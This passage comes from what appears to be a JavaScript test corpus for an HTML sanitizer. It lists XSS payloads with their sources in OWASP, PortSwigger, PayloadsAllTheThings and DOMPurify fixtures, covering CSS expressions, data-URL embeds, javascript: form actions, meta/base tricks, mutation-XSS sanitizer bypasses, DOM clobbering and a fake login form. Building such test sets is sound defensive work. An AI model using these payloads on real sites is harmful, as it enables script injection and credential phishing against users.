  { id: 'svg-use-data-image-onerror', origin: 'PortSwigger Cross-site scripting cheat sheet: Protocols, Data URL with use element', attack: 'url-scheme', place: 'body', payload: `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(1)' /&gt;&lt;/svg&gt;#x" />`, live: 'no' },
  { id: 'svg-animate-auto-use', origin: 'PortSwigger Cross-site scripting cheat sheet: Protocols, Animate tag with auto executing use element', attack: 'url-scheme', place: 'body', payload: `<svg><animate xlink:href="#x" attributeName="href" values="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(1)' /&gt;&lt;/svg&gt;#x" /><use id=x />`, live: 'no' },

  // ---------------------------------------------------------------------
  // Body, raw HTML: style sheets, style attributes, CSS expressions.
  // ---------------------------------------------------------------------
  { id: 'link-stylesheet-js', origin: 'OWASP XSS Filter Evasion Cheat Sheet: STYLE sheet', attack: 'style', place: 'body', payload: `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`, live: 'no' },
  { id: 'link-remote-stylesheet', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Remote style sheet', attack: 'style', place: 'body', payload: '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">', live: 'no' },
  { id: 'style-import-remote', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Remote style sheet part 2', attack: 'style', place: 'body', payload: `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`, live: 'no' },
  { id: 'style-import-escaped-js', origin: 'OWASP XSS Filter Evasion Cheat Sheet: STYLE Tags that Breaks Up JavaScript for XSS', attack: 'style', place: 'body', payload: String.raw`<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>`, live: 'no' },
  { id: 'img-style-expression-comment', origin: 'OWASP XSS Filter Evasion Cheat Sheet: STYLE Attribute that Breaks Up an Expression', attack: 'style', place: 'body', payload: `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`, live: 'no' },
  { id: 'style-class-background-js', origin: 'OWASP XSS Filter Evasion Cheat Sheet: STYLE Tag using Background-image', attack: 'style', place: 'body', payload: `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`, live: 'no' },
  { id: 'style-body-background-js', origin: 'OWASP XSS Filter Evasion Cheat Sheet: STYLE Tag using Background', attack: 'style', place: 'body', payload: `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`, live: 'no' },
  { id: 'style-type-javascript', origin: 'OWASP XSS Filter Evasion Cheat Sheet: STYLE Tag (Older versions of Netscape only)', attack: 'style', place: 'body', payload: `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`, live: 'no' },
  { id: 'anonymous-tag-expression', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Anonymous HTML with STYLE Attribute', attack: 'style', place: 'body', payload: `<XSS STYLE="xss:expression(alert('XSS'))">`, live: 'no' },
  { id: 'style-behavior-htc', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Local htc File', attack: 'style', place: 'body', payload: '<XSS STYLE="behavior: url(xss.htc);">', live: 'no' },
  { id: 'div-background-js', origin: 'OWASP XSS Filter Evasion Cheat Sheet: DIV Background-image', attack: 'style', place: 'body', payload: `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`, live: 'no' },
  { id: 'div-background-css-escapes', origin: 'OWASP XSS Filter Evasion Cheat Sheet: DIV Background-image with Unicoded XSS Exploit', attack: 'style', place: 'body', payload: String.raw`<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">`, live: 'no' },
  { id: 'div-width-expression', origin: 'OWASP XSS Filter Evasion Cheat Sheet: DIV Expression', attack: 'style', place: 'body', payload: `<DIV STYLE="width: expression(alert('XSS'));">`, live: 'no' },
  { id: 'style-moz-binding', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Remote style sheet part 4', attack: 'style', place: 'body', payload: '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>', live: 'no' },
  { id: 'style-list-style-image-js', origin: 'OWASP XSS Filter Evasion Cheat Sheet: List-style-image', attack: 'style', place: 'body', payload: `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`, live: 'no' },
  { id: 'style-fullwidth-expression', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #80', attack: 'style', place: 'body', payload: '<style>*{x:\uFF45\uFF58\uFF50\uFF52\uFF45\uFF53\uFF53\uFF49\uFF4F\uFF4E(alert(80))}</style>', live: 'no' },
  { id: 'a-style-o-link', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #9', attack: 'style', place: 'body', payload: `<a style="-o-link:'javascript:alert(9)';-o-link-source:current">X</a>`, live: 'no' },
  { id: 'style-import-data-expression', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #30', attack: 'style', place: 'body', payload: '<style>@import "data:,*%7bx:expression(alert(30))%7D";</style>', live: 'no' },
  { id: 'svg-image-filter-data-script', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Inline SVG (data-uri), html5sec #129', attack: 'style', place: 'body', payload: `<svg><image style='filter:url("data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><script>parent.alert(129)</script></svg>")'>\n<!--\nSame effect with\n<image filter='...'>\n-->\n</svg>`, live: 'no' },
  { id: 'style-data-url-escaped-end-tag', origin: 'PayloadsAllTheThings, XSS Injection: XSS in files, XSS in CSS', attack: 'style', place: 'body', payload: String.raw`<style>
div  {
    background-image: url("data:image/jpg;base64,<\/style><svg/onload=alert(document.domain)>");
    background-color: #cccccc;
}
</style>
<div>lol</div>`, live: 'no' },

  // ---------------------------------------------------------------------
  // Body, raw HTML: frames, objects and embeds.
  // ---------------------------------------------------------------------
  { id: 'object-data-html-base64', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #50', attack: 'embedding', place: 'body', payload: '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>', live: 'both' },
  { id: 'embed-data-html-base64', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #51', attack: 'embedding', place: 'body', payload: '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></embed>', live: 'both' },
  { id: 'embed-svg-base64', origin: 'OWASP XSS Filter Evasion Cheat Sheet: EMBED SVG Which Contains XSS Vector', attack: 'embedding', place: 'body', payload: '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>', live: 'both' },
  { id: 'object-scriptlet', origin: 'OWASP XSS Filter Evasion Cheat Sheet: OBJECT Tag', attack: 'embedding', place: 'body', payload: '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>', live: 'both' },
  { id: 'embed-flash-swf', origin: 'OWASP XSS Filter Evasion Cheat Sheet: EMBED a Flash Movie That Contains XSS', attack: 'embedding', place: 'body', payload: '<EMBED SRC="http://ha.ckers.org/xss.swf" AllowScriptAccess="always"></EMBED>', live: 'no' },
  { id: 'iframe-double-open-angle', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Double Open Angle Brackets', attack: 'embedding', place: 'body', payload: '<iframe src=http://xss.rocks/scriptlet.html <', live: 'static' },
  { id: 'iframe-srcdoc-img', origin: 'PortSwigger Cross-site scripting cheat sheet: Other useful attributes, Using srcdoc attribute', attack: 'embedding', place: 'body', payload: '<iframe srcdoc="<img src=1 onerror=alert(1)>"></iframe>', live: 'both' },
  { id: 'iframe-srcdoc-encoded', origin: 'PortSwigger Cross-site scripting cheat sheet: Other useful attributes, Using srcdoc with entities', attack: 'embedding', place: 'body', payload: '<iframe srcdoc="&lt;img src=1 onerror=alert(1)&gt;"></iframe>', live: 'both' },
  { id: 'iframe-src-data-html', origin: 'PayloadsAllTheThings, XSS Injection: XSS in wrappers javascript and data URI (data:text/html, in an iframe)', attack: 'embedding', place: 'body', payload: '<iframe src="data:text/html,<script>alert(0)</script>"></iframe>', live: 'both' },
  { id: 'object-classid-param-js', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #49', attack: 'embedding', place: 'body', payload: '<OBJECT CLASSID="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><PARAM NAME="DataURL" VALUE="javascript:alert(49)"></OBJECT>', live: 'no' },
  { id: 'embed-code-attribute', origin: 'PortSwigger Cross-site scripting cheat sheet: Protocols, Embed supports code attribute', attack: 'embedding', place: 'body', payload: '<embed code=https://portswigger-labs.net width=500 height=500 type=text/html>', live: 'both' },
  { id: 'object-param-url', origin: 'PortSwigger Cross-site scripting cheat sheet: Protocols, Object tag supports param url', attack: 'embedding', place: 'body', payload: '<object width=500 height=500 type=text/html><param name=url value=https://portswigger-labs.net>', live: 'no' },

  // ---------------------------------------------------------------------
  // Body, raw HTML: forms and form-associated buttons.
  // ---------------------------------------------------------------------
  { id: 'button-form-formaction-js', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #1', attack: 'form', place: 'body', payload: '<form id="test"></form><button form="test" formaction="javascript:alert(1)">X</button>', live: 'no' },
  { id: 'form-button-formaction-js', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #72', attack: 'form', place: 'body', payload: '<form><button formaction="javascript:alert(72)">X</button>', live: 'no' },
  { id: 'form-action-js-newline', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: form action with a newline in the scheme', attack: 'form', place: 'body', payload: '<form action="javasc\nript:alert(1)"><button>XXX</button></form>', live: 'no' },
  { id: 'form-label-outside-submit', origin: 'PortSwigger Cross-site scripting cheat sheet: Other useful attributes, Click a submit element from anywhere on the page', attack: 'form', place: 'body', payload: '<form action="javascript:alert(1)"><input type=submit id=x></form><label for=x>XSS</label>', live: 'no' },
  { id: 'isindex-formaction-js', origin: 'PayloadsAllTheThings, XSS Injection: Polyglot XSS (Ashar Javed), isindex part', attack: 'form', place: 'body', payload: '<isindex formaction=javascript:alert(/XSS/) type=submit>', live: 'no' },
  { id: 'form-phishing-login', origin: 'PayloadsAllTheThings, XSS Injection: Exploit code or POC, UI redressing', attack: 'form', place: 'body', payload: `<h1>Please login to continue</h1><form>Username: <input type='text'>Password: <input type='password'></form><input value='submit' type='submit'>`, live: 'no' },

  // ---------------------------------------------------------------------
  // Body, raw HTML: meta refresh, charset, base.
  // ---------------------------------------------------------------------
  { id: 'meta-refresh-js', origin: 'OWASP XSS Filter Evasion Cheat Sheet: META', attack: 'meta-base', place: 'body', payload: `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`, live: 'no' },
  { id: 'meta-refresh-data-base64', origin: 'OWASP XSS Filter Evasion Cheat Sheet: META using Data', attack: 'meta-base', place: 'body', payload: '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">', live: 'no' },
  { id: 'meta-refresh-double-url', origin: 'OWASP XSS Filter Evasion Cheat Sheet: META with Additional URL Parameter', attack: 'meta-base', place: 'body', payload: `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`, live: 'static' }, // Inserted with innerHTML, Chromium follows this refresh only some of the time.
  { id: 'meta-refresh-remote', origin: 'PortSwigger Cross-site scripting cheat sheet: Special tags, Redirect to a different domain', attack: 'meta-base', place: 'body', payload: '<meta http-equiv="refresh" content="0; url=//portswigger-labs.net">', live: 'both' },
  { id: 'meta-charset-attribute-utf7', origin: 'PortSwigger Cross-site scripting cheat sheet: Special tags, Meta charset attribute UTF-7', attack: 'meta-base', place: 'body', payload: '<meta charset="UTF-7" /> +ADw-script+AD4-alert(1)+ADw-/script+AD4-', live: 'no' },
  { id: 'base-href-js-rewrites-relative', origin: 'PortSwigger Cross-site scripting cheat sheet: Protocols, Base tag with JavaScript protocol rewriting relative URLS', attack: 'meta-base', place: 'body', payload: '<base href="javascript:/a/-alert(1)///////"><a href=../lol/safari.html>test</a>', live: 'no' },
  { id: 'meta-set-cookie', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Cookie Manipulation', attack: 'meta-base', place: 'body', payload: `<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">`, live: 'no' },
  { id: 'meta-charset-utf7', origin: 'OWASP XSS Filter Evasion Cheat Sheet: UTF-7 Encoding', attack: 'meta-base', place: 'body', payload: `<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-`, live: 'no' },
  { id: 'meta-link-header', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Remote style sheet part 3', attack: 'meta-base', place: 'body', payload: '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">', live: 'no' },
  { id: 'meta-imap4-utf7', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #2', attack: 'meta-base', place: 'body', payload: '<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPABi', live: 'no' },
  { id: 'base-href-js', origin: 'OWASP XSS Filter Evasion Cheat Sheet: BASE Tag', attack: 'meta-base', place: 'body', payload: `<BASE HREF="javascript:alert('XSS');//">`, live: 'no' },
  { id: 'base-href-js-relative-link', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #42', attack: 'meta-base', place: 'body', payload: '<head><base href="javascript://"/></head><body><a href="/. /,alert(42)//#">XXX</a></body>', live: 'no' },

  // ---------------------------------------------------------------------
  // Body, raw HTML: mutation XSS, namespace confusion, comments, CDATA.
  // ---------------------------------------------------------------------
  { id: 'mxss-noscript-title', origin: 'Masato Kinugawa, Google Search mXSS (2019); PayloadsAllTheThings, XSS Injection: Mutated XSS', attack: 'mutation', place: 'body', payload: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', live: 'both' },
  { id: 'mxss-svg-p-style', origin: 'Michał Bentkowski, securitum: Write-up of DOMPurify 2.0.0 bypass using mutation XSS (2019)', attack: 'mutation', place: 'body', payload: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', live: 'both' },
  { id: 'mxss-consuming-noembed', origin: 'PortSwigger Cross-site scripting cheat sheet: Consuming tags, Noembed consuming tag', attack: 'mutation', place: 'body', payload: '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>', live: 'both' },
  { id: 'mxss-consuming-iframe', origin: 'PortSwigger Cross-site scripting cheat sheet: Consuming tags, iframe consuming tag', attack: 'mutation', place: 'body', payload: '<iframe><img title="</iframe><img src onerror=alert(1)>"></iframe>', live: 'both' },
  { id: 'mxss-consuming-xmp', origin: 'PortSwigger Cross-site scripting cheat sheet: Consuming tags, xmp consuming tag', attack: 'mutation', place: 'body', payload: '<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>', live: 'both' },
  { id: 'mxss-consuming-textarea', origin: 'PortSwigger Cross-site scripting cheat sheet: Consuming tags, textarea consuming tag', attack: 'mutation', place: 'body', payload: '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>', live: 'both' },
  { id: 'mxss-consuming-noframes', origin: 'PortSwigger Cross-site scripting cheat sheet: Consuming tags, noframes consuming tag', attack: 'mutation', place: 'body', payload: '<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>', live: 'both' },
  { id: 'mxss-consuming-title', origin: 'PortSwigger Cross-site scripting cheat sheet: Consuming tags, Title consuming tag', attack: 'mutation', place: 'body', payload: '<title><img title="</title><img src onerror=alert(1)>"></title>', live: 'both' },
  { id: 'mxss-svg-svg-noscript-iframe', origin: 'PortSwigger Cross-site scripting cheat sheet: Client-side template injection, VueJS reflected, Version 2 (noscript inside svg)', attack: 'mutation', place: 'body', payload: '<svg><svg><b><noscript>&lt;/noscript&gt;&lt;iframe&Tab;onload=setTimeout(/alert(1)/.source)&gt;</noscript></b></svg>', live: 'no' },
  { id: 'mxss-math-mglyph-comment', origin: 'Gareth Heyes, PortSwigger Research: Bypassing DOMPurify again with mutation XSS (2020), Chrome vector', attack: 'mutation', place: 'body', payload: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">', live: 'no' },
  { id: 'mxss-math-mglyph-cdata', origin: 'Gareth Heyes, PortSwigger Research: Bypassing DOMPurify again with mutation XSS (2020), Firefox vector', attack: 'mutation', place: 'body', payload: '<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">', live: 'no' },
  { id: 'mxss-form-math-mglyph', origin: 'Michał Bentkowski, securitum: Mutation XSS via namespace confusion, DOMPurify < 2.0.17 bypass (2020)', attack: 'mutation', place: 'body', payload: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', live: 'no' },
  { id: 'mxss-svg-style-img', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #128', attack: 'mutation', place: 'body', payload: '<svg><style><img/src=x onerror=alert(128)// </b>', live: 'both' },
  { id: 'mxss-svg-p-textarea', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Tests against mXSS behavior with SVG in Chrome 77 and alike 1/2', attack: 'mutation', place: 'body', payload: '<svg></p><textarea><title><style></textarea><img src=x onerror=alert(1)></style></title></svg>', live: 'both' },
  { id: 'mxss-math-p-textarea', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Tests against mXSS behavior with MathML in Chrome 77 and alike', attack: 'mutation', place: 'body', payload: '<math></p><textarea><mi><style></textarea><img src=x onerror=alert(1)></mi></math>', live: 'both' },
  { id: 'mxss-svg-title-template', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Tests against mXSS behavior with SVG Templates in Chrome 77 and alike', attack: 'mutation', place: 'body', payload: '<svg></p><title><template><style></title><img src=x onerror=alert(1)>', live: 'both' },
  { id: 'mxss-math-br-textarea-template', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Tests against mXSS behavior with MathML Templates in Chrome 77 and alike', attack: 'mutation', place: 'body', payload: '<math></br><textarea><mtext><template><style></textarea><img src=x onerror=alert(1)>', live: 'both' },
  { id: 'mxss-svg-math-title-style', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Tests against mXSS behavior with embedded MathML/SVG', attack: 'mutation', place: 'body', payload: '<svg></p><math><title><style><img src=x onerror=alert(1)></style></title>', live: 'both' },
  { id: 'mxss-svg-p-style-g-title', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Tests against attribute-based mXSS behavior 1/3', attack: 'mutation', place: 'body', payload: '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">', live: 'both' },
  { id: 'mxss-foreignobject-style-title', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Tests against attribute-based mXSS behavior 2/3', attack: 'mutation', place: 'body', payload: '<svg><foreignobject><p><style><p title="</style><iframe onload&#x3d;alert(1)<!--"></style>', live: 'no' },
  { id: 'mxss-annotation-xml-style', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Tests against attribute-based mXSS behavior 3/3', attack: 'mutation', place: 'body', payload: '<math><annotation-xml encoding="text/html"><p><style><p title="</style><iframe onload&#x3d;alert(1)<!--"></style>', live: 'no' },
  { id: 'mxss-math-table-mglyph-href', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Tests against nesting-based mXSS behavior 2/5', attack: 'mutation', place: 'body', payload: '<math><mtext><table><mglyph><style><math href=javascript:alert(1)>CLICKME</math>', live: 'no' },
  { id: 'mxss-math-table-mglyph-svg', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Tests against nesting-based mXSS behavior 5/5', attack: 'mutation', place: 'body', payload: '<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">', live: 'no' },
  { id: 'mxss-math-mtext-h1-mglyph', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Tests against additional problems regarding HTML inside MathML 1/2', attack: 'mutation', place: 'body', payload: `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='alert(1)'>"></style></h1>`, live: 'no' },
  { id: 'mxss-math-option-fake-element', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: fake-element-based namespace-confusion mXSS 2/2', attack: 'mutation', place: 'body', payload: `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='alert(1)'>">`, live: 'no' },
  { id: 'mxss-svg-desc-noscript-entities', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: fake-element-based namespace-confusion mXSS 1/2', attack: 'mutation', place: 'body', payload: 'a<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=alert(1)>">', live: 'no' },
  { id: 'mxss-comment-in-src', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #37', attack: 'mutation', place: 'body', payload: '<!--<img src="--><img src=x onerror=alert(37)//">', live: 'both' },
  { id: 'mxss-style-in-src', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #40', attack: 'mutation', place: 'body', payload: '<style><img src="</style><img src=x onerror=alert(40)//">', live: 'both' },
  { id: 'mxss-bogus-comment-bracket', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #39', attack: 'mutation', place: 'body', payload: '<![><img src="]><img src=x onerror=alert(39)//">', live: 'no' },
  { id: 'mxss-svg-cdata-image', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs (IE9+, FF4+, Opera 11.60+, Safari 4.0.4+, GC7+)', attack: 'mutation', place: 'body', payload: '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(2)//"></svg>', live: 'both' },
  { id: 'mxss-svg-desc-cdata', origin: 'PayloadsAllTheThings, XSS Injection: XSS in files, XSS in SVG (short)', attack: 'mutation', place: 'body', payload: '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>', live: 'no' },
  { id: 'mxss-svg-foreignobject-cdata', origin: 'PayloadsAllTheThings, XSS Injection: XSS in files, XSS in SVG (short)', attack: 'mutation', place: 'body', payload: '<svg><foreignObject><![CDATA[</foreignObject><script>alert(2)</script>]]></svg>', live: 'no' },
  { id: 'mxss-cdata-in-html', origin: 'WHATWG HTML Standard, parse error cdata-in-html-content; CDATA use from PayloadsAllTheThings, XSS Injection: XSS in files', attack: 'mutation', place: 'body', payload: '<![CDATA[<script>alert(1)</script>]]>', live: 'no' },
  { id: 'mxss-empty-comment', origin: 'WHATWG HTML Standard, parse error abrupt-closing-of-empty-comment (<!-->)', attack: 'mutation', place: 'body', payload: '<!--><img src=x onerror=alert(1)>-->', live: 'both' },
  { id: 'mxss-comment-bang-close', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #133', attack: 'mutation', place: 'body', payload: '<!-- `<img/src=xxx onerror=alert(133)//--!>', live: 'no' },
  { id: 'mxss-processing-instruction', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #91 [A]', attack: 'mutation', place: 'body', payload: '<? foo="><script>alert(91)</script>">', live: 'static' },
  { id: 'mxss-ie-conditional-comment', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Downlevel-Hidden Block', attack: 'mutation', place: 'body', payload: `<!--[if gte IE 4]>\n<SCRIPT>alert('XSS');</SCRIPT>\n<![endif]-->`, live: 'no' },
  { id: 'mxss-listing-entities', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: mXSS Variation I', attack: 'mutation', place: 'body', payload: '<listing>&lt;img onerror="alert(1);//" src=x&gt;<t t></listing>', live: 'no' },
  { id: 'mxss-img-id-slash', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: mXSS Variation II', attack: 'mutation', place: 'body', payload: `<img src=x id/=' onerror=alert(1)//'>`, live: 'both' },
  { id: 'mxss-textarea-comment', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Textarea and comments enabling img element', attack: 'mutation', place: 'body', payload: '<textarea>@shafigullin</textarea><!--</textarea><img src=x onerror=alert(1)>-->', live: 'no' },
  { id: 'mxss-noscript-comment', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Img element inside noscript terminated inside comment', attack: 'mutation', place: 'body', payload: '<b><noscript><!-- </noscript><img src=x onerror=alert(1) --></noscript>', live: 'both' },
  { id: 'mxss-noscript-attribute', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Img element inside noscript terminated inside attribute', attack: 'mutation', place: 'body', payload: '<b><noscript><a alt="</noscript><img src=x onerror=alert(1)>"></noscript>', live: 'both' },
  { id: 'mxss-template-nested', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Img element inside shadow DOM template', attack: 'mutation', place: 'body', payload: '<body><template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>', live: 'no' },
  { id: 'mxss-option-style', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Img inside style inside broken option element', attack: 'mutation', place: 'body', payload: '\u0001<option><style></option></select><b><img src=x onerror=alert(1)></style></option>', live: 'no' },
  { id: 'mxss-option-iframe-script', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Iframe inside option element', attack: 'mutation', place: 'body', payload: '<option><iframe></select><b><script>alert(1)</script>', live: 'no' },
  { id: 'mxss-style-style-self-closing', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Image after style to trick jQuery tag-completion', attack: 'mutation', place: 'body', payload: '<b><style><style/><img src=x onerror=alert(1)>', live: 'no' },
  { id: 'mxss-select-template', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Tests against removal of templates inside select elements', attack: 'mutation', place: 'body', payload: '<select><template><img src=x onerror=alert(1)></template></select>', live: 'no' },

  // ---------------------------------------------------------------------
  // Body, raw HTML: DOM clobbering.
  // ---------------------------------------------------------------------
  { id: 'clobber-form-name-input', origin: 'PortSwigger Web Security Academy: DOM clobbering (form name, input id), Gareth Heyes', attack: 'clobbering', place: 'body', payload: '<form name=x><input id=y></form>', live: 'no' },
  { id: 'clobber-img-name-getelementbyid', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: DOM clobbering: getElementById', attack: 'clobbering', place: 'body', payload: '<img src=x name=getElementById>', live: 'no' },
  { id: 'clobber-a-id-location', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: DOM clobbering: location', attack: 'clobbering', place: 'body', payload: '<a href="#some-code-here" id="location">invisible', live: 'no' },
  { id: 'clobber-form-attributes-print', origin: 'PortSwigger Web Security Academy lab: Clobbering DOM attributes to bypass HTML filters', attack: 'clobbering', place: 'body', payload: '<form id=x tabindex=0 onfocus=print()><input id=attributes>', live: 'no' },
  { id: 'clobber-form-attributes-mouseover', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: DOM clobbering XSS by @irsdl using attributes', attack: 'clobbering', place: 'body', payload: `<form onmouseover='alert(1)'><input name="attributes"><input name="attributes">`, live: 'no' },
  { id: 'clobber-default-avatar-cid', origin: 'PortSwigger Web Security Academy lab: Exploiting DOM clobbering to enable XSS', attack: 'clobbering', place: 'body', payload: '<a id=defaultAvatar><a id=defaultAvatar name=avatar href="cid:&quot;onerror=alert(1)//">', live: 'no' },
  { id: 'clobber-img-name-cookie', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: DOM Clobbering against an empty cookie', attack: 'clobbering', place: 'body', payload: '<img src=x name=cookie>', live: 'no' },
  { id: 'clobber-create-element', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: DOM Clobbering against document.createElement() (#47)', attack: 'clobbering', place: 'body', payload: '<img src=x name=createElement><img src=y id=createElement>', live: 'no' },
